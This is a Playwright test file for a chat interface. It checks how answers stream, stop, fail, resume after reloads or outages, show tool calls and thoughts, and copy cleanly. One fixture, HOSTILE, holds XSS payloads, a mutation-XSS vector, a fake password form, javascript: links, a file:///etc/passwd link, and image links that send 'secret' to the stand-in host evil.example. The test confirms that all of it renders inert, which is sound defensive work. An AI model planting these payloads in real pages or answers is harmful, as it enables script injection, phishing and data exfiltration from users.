"""How an answer comes about on the screen: growing, stopped, failing, cut off, taken up again, and never executed."""

import json
import re
from collections.abc import Sequence

import pytest
from playwright.sync_api import Page, expect

from tests.browser.app import App, until

pytestmark = pytest.mark.browser
WORDS = " ".join(f"word{number}" for number in range(40))
PARAGRAPHS = "\n\n".join(f"Paragraph {number}. {WORDS}" for number in range(16))


def shown(app: App) -> str:
    """The last answer's words on the screen, with single spaces."""
    return " ".join(app.answer_text.inner_text().split())


def has_begun(app: App, words: int = 5) -> None:
    """Wait until some words of the last answer are there."""
    expect(app.answer).to_have_attribute("data-state", "streaming")
    expect(app.answer_text).to_contain_text(f"word{words}")


def last_stored(app: App) -> str:
    text = app.stored()[-1]["text"]
    assert isinstance(text, str)
    return text


def test_a_question_is_on_the_screen_at_once(app: App):
    app.famulus.replies(f"@delay 1\n{WORDS}")
    app.composer.fill("At once?")
    seen = app.page.evaluate(
        """async () => {
          document.querySelector("[data-testid=send]").click();
          for (let i = 0; i < 2; i++) await new Promise(requestAnimationFrame);
          const question = document.querySelector("[data-role=user]");
          return [question?.innerText ?? "", document.getElementById("composer").value];
        }"""
    )
    assert "At once?" in seen[0]
    assert seen[1] == ""
    expect(app.part("waiting")).to_be_visible()
    expect(app.part("stop")).to_be_visible()
    app.ended()
    assert shown(app) == WORDS == last_stored(app)
    expect(app.part("status-region")).to_have_text("The answer is complete.")


def test_stopping_keeps_what_was_written(app: App):
    app.famulus.replies(f"@rate 12\n{WORDS}")
    app.ask("Stop this one.")
    has_begun(app)
    app.page.keyboard.press("Escape")
    app.ended("stopped")
    expect(app.part("stopped-note")).to_have_text("Stopped. What was written is kept.")
    kept = shown(app)
    assert kept.startswith("word0 word1")
    assert kept != WORDS
    assert last_stored(app).strip() == kept
    assert app.stored()[-1]["status"] == "partial"
    app.page.reload()
    app.ended("stopped")
    assert shown(app) == kept


def test_stopping_before_the_first_word_is_no_failure(app: App):
    app.famulus.replies(f"@delay 8\n{WORDS}")
    app.ask("Stop before it begins.")
    expect(app.part("waiting")).to_be_visible()
    app.part("stop").click()
    app.ended("stopped")
    app.page.reload()
    app.ended("stopped")
    expect(app.part("answer-problem")).to_have_count(0)


def test_a_failure_is_shown_also_after_a_reload_and_can_be_mended(app: App):
    app.famulus.replies("@fail 503")
    app.asked("Will this fail?", "failed")
    problem = app.answer.get_by_test_id("answer-problem")
    expect(problem).to_have_attribute("role", "alert")
    code = problem.get_attribute("data-code")
    said = problem.inner_text()
    app.page.reload()
    app.ended("failed")
    expect(problem).to_have_attribute("data-code", code or "missing")
    assert problem.inner_text() == said

    app.famulus.replies("Now it answers.")
    problem.get_by_test_id("retry").click()
    app.ended()
    assert shown(app) == "Now it answers."
    assert [message["status"] for message in app.stored()] == ["complete", "failed", "complete", "complete"]


def test_a_reload_takes_the_answer_up_again(app: App):
    app.famulus.replies(f"@rate 6\n{WORDS}")
    app.ask("Reload while this is written.")
    has_begun(app)
    app.page.reload()
    expect(app.answer).to_have_attribute("data-state", "streaming")
    app.ended()
    assert shown(app) == WORDS == last_stored(app)
    expect(app.part("message")).to_have_count(2)


def test_a_lost_network_costs_nothing(app: App):
    app.famulus.replies(f"@rate 12\n{WORDS}")
    app.ask("Through a tunnel.")
    has_begun(app)
    app.page.context.set_offline(True)
    expect(app.part("offline-banner")).to_be_visible()
    app.page.wait_for_timeout(600)
    app.page.context.set_offline(False)
    app.ended()
    assert shown(app) == WORDS == last_stored(app)


def test_a_killed_server_goes_on_where_it_was_without_a_reload(app: App):
    app.famulus.replies(f"@rate 12\n{WORDS}")
    app.ask("Survive this.")
    has_begun(app)
    app.famulus.kill()
    expect(app.part("reconnecting")).to_be_visible()
    app.famulus.start()
    app.ended()
    assert shown(app) == WORDS == last_stored(app)
    expect(app.part("reconnecting")).to_have_count(0)
    expect(app.part("message")).to_have_count(2)


def test_two_windows_show_the_same_answer(app: App):
    app.famulus.replies(f"@rate 6\n{WORDS}")
    app.ask("Seen twice.")
    has_begun(app)
    other = App(app.page.context.new_page(), app.famulus, app.record)
    other.page.goto(app.page.url)
    expect(other.answer).to_have_attribute("data-state", "streaming")
    app.ended()
    other.ended()
    assert shown(app) == shown(other) == WORDS


def test_another_conversation_meanwhile(app: App):
    app.famulus.replies(f"@rate 12\n{WORDS}", "The second answer.")
    app.ask("The slow one.")
    has_begun(app)
    slow = app.page.url
    app.part("new-thread").click()
    app.asked("The quick one.")
    assert shown(app) == "The second answer."
    app.page.goto(slow)
    app.ended()
    assert shown(app) == WORDS


def test_a_search_by_the_model_is_shown_with_what_it_was_given(app: App):
    app.famulus.replies('@tool search_knowledge {"query": "costmap resolution"}\nLooked it up.')
    app.asked("Look it up.")
    line = app.part("tool-line")
    expect(line).to_have_attribute("data-state", "ok")
    expect(line.locator("summary")).to_have_text(re.compile(r"^Found \d+ passages"))
    line.locator("summary").click()
    expect(line).to_contain_text("Given to “Search knowledge”")
    expect(line).to_contain_text('"query": "costmap resolution"')
    app.page.reload()
    expect(app.part("tool-line")).to_have_attribute("data-state", "ok")


def test_reading_up_pauses_the_following(app: App):
    app.famulus.replies(f"@rate 250\n{PARAGRAPHS}")
    app.ask("At length, please.")
    scroller = app.part("chat-scroll")
    until(lambda: scroller.evaluate("box => box.scrollTop") > 300)
    assert scroller.evaluate("box => box.scrollHeight - box.scrollTop - box.clientHeight") < 80
    scroller.hover()
    app.page.mouse.wheel(0, -250)
    expect(app.part("jump-to-latest")).to_be_visible()
    place = scroller.evaluate("box => box.scrollTop")
    app.page.wait_for_timeout(300)
    assert abs(scroller.evaluate("box => box.scrollTop") - place) < 3
    app.part("jump-to-latest").click()
    app.ended()
    assert scroller.evaluate("box => box.scrollHeight - box.scrollTop - box.clientHeight") < 80


def test_copying_gives_the_source(app: App):
    app.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    source = "A **bold** word.\n\n```python\nprint('one')\n\nprint('two')\n```"
    app.famulus.replies(source)
    app.asked("Some code, please.")
    app.part("copy-code").click()
    assert clipboard(app.page) == "print('one')\n\nprint('two')"
    app.part("copy-answer").click()
    assert clipboard(app.page) == source


def clipboard(page: Page) -> str:
    page.wait_for_timeout(100)
    return str(page.evaluate("navigator.clipboard.readText()"))


HOSTILE = r"""
<script>window.hacked = "script"</script>
<img src="x" onerror="window.hacked = 'onerror'">
<img src="https://evil.example/pixel.gif?q=secret">
![what you said](https://evil.example/leak.png?text=secret)
![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
<svg onload="window.hacked = 'svg'"><script>window.hacked = 'svg script'</script></svg>
<iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<link rel="stylesheet" href="https://evil.example/s.css"><style>@import "https://evil.example/i.css";</style>
<form action="https://evil.example/f"><input name="password"><button>Sign in</button></form>
<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<div style="background: url(https://evil.example/b.png)" onmouseover="window.hacked = 'over'">styled</div>
<button data-cite="1" data-testid="citation-chip" class="cite">1</button>

[script link](javascript:window.hacked='link') [coded](java&#10;script:window.hacked='coded')
[data link](data:text/html,<script>window.hacked='data'</script>) [page](//evil.example/p) [file](file:///etc/passwd)
[honest link](https://example.org/docs)

<a href="javascript:window.hacked='a'" onclick="window.hacked='click'">raw link</a>

| a | b |
|---|---|
| <img src=x onerror="window.hacked='cell'"> | ![](https://evil.example/cell.png) |

The end <math><mtext><style><img src=x onerror="window.hacked='mutation'"></style></mtext></math>
"""
FORBIDDEN = (
    "img, script, iframe, object, embed, link, style, form, video, audio, meta, base, svg, math, button"
)
LINKS = "nodes => nodes.map((node) => node.getAttribute('href'))"
HANDLERS = """nodes => nodes.flatMap((node) => [...node.attributes].map((item) => item.name))
  .filter((name) => name.startsWith("on"))"""


def assert_tame(app: App) -> None:
    """Nothing of a hostile answer lives, and the content policy was not what stopped it."""
    answer = app.answer_text
    expect(answer).to_contain_text("The end")
    assert answer.locator(f"{FORBIDDEN}, [style], [id]").count() == 0
    assert answer.locator("*").evaluate_all(HANDLERS) == []
    hrefs: Sequence[str] = answer.locator("a").evaluate_all(LINKS)
    assert "https://example.org/docs" in hrefs
    assert all(href.startswith("https://") for href in hrefs), json.dumps(hrefs)
    assert app.page.evaluate("window.hacked") is None
    assert app.record.outside() == []
    assert app.violations() == []


def test_a_hostile_answer_stays_text(app: App):
    app.famulus.replies(f"@rate 300\n{HOSTILE}")
    app.asked("<img src=x onerror=\"window.hacked='question'\"> ![](https://evil.example/q.png)")
    assert_tame(app)
    expect(app.part("thread-title").first).to_contain_text("<img src=x")
    link = app.answer_text.get_by_role("link", name="honest link")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    for inert in ("script link", "raw link", "styled"):
        app.answer_text.get_by_text(inert).first.click(position={"x": 6, "y": 10})
    app.page.reload()
    app.ended()
    assert_tame(app)
    assert app.page.url.startswith(app.famulus.url)


def test_an_answer_that_became_too_long_goes_on(app: App):
    app.famulus.replies(f"@cut length\n{WORDS}", f"@cut content_filter\n{WORDS}", "The rest.")
    app.ask("At length, please.")
    app.ended()
    expect(app.answer.get_by_test_id("cut-note")).to_contain_text("reached the longest that is allowed")
    app.page.reload()
    app.ended()
    app.answer.get_by_test_id("continue").click()
    expect(app.question).to_contain_text("Continue.")
    app.ended()
    held = app.answer.get_by_test_id("cut-note")
    expect(held).to_contain_text("held back the rest")
    expect(app.part("continue")).to_have_count(0)
    app.ask("And then?")
    app.ended()
    expect(app.answer).to_contain_text("The rest.")
    expect(app.answer.get_by_test_id("cut-note")).to_have_count(0)


def test_what_was_thought_is_folded_above_the_answer(app: App):
    app.famulus.replies(f"@think Is it so? It is.\n@rate 12\n{WORDS}")
    app.ask("Think about it.")
    has_begun(app)
    thought = app.answer.get_by_test_id("thought")
    expect(thought).to_contain_text("Thought")
    app.ended()
    app.page.reload()
    app.ended()
    expect(thought.get_by_text("Is it so? It is.")).to_be_hidden()
    thought.locator("summary").click()
    expect(thought.get_by_text("Is it so? It is.")).to_be_visible()
    assert shown(app) == WORDS
